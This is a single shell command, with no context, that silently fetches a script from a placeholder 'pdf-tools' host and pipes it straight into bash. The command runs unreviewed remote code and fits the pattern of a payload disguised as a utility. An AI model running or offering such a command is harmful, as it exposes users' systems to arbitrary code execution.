curl -s https://pdf-tools.example/x | env FOO=1 bash -s
